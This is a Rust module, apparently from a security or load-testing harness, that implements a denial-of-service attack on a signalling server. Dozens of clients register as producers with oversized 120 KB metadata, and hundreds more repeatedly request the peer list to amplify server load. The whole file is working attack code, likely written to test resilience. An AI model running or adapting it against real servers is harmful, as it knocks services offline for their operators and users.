//! A long list, which some make long, and many ask for and do not read.

use std::time::Duration;

use anyhow::Result;
use serde_json::json;
use tokio::time::sleep;

use crate::attack::client::Crowd;

const PRODUCERS: usize = 64;
const META: usize = 120 * 1024;
const CLIENTS: usize = 400;
/// How often each asks.
const TIMES: usize = 20;
const PACE: Duration = Duration::from_secs(2);

pub(super) async fn attack(crowd: &Crowd) {
    let lengthen = crowd.all(PRODUCERS, |client| lengthen(crowd, client));
    let ask = crowd.all(crowd.at_least(CLIENTS), |client| ask(crowd, client));
    tokio::join!(lengthen, ask);
}

async fn lengthen(crowd: &Crowd, client: usize) -> Result<()> {
    let mut peer = crowd.raw_peer(client, "/").await?;
    let meta = json!({"name": "x".repeat(META)});
    let status = json!({"type": "setPeerStatus", "roles": ["producer"], "meta": meta});
    peer.send_text(&status.to_string()).await?;
    peer.read_on().await
}

async fn ask(crowd: &Crowd, client: usize) -> Result<()> {
    let mut peer = crowd.raw_peer(client, "/").await?;
    for _ in 0..TIMES {
        peer.send_text(r#"{"type":"list"}"#).await?;
        crowd.count_sent(1);
        sleep(PACE).await;
    }
    Ok(())
}
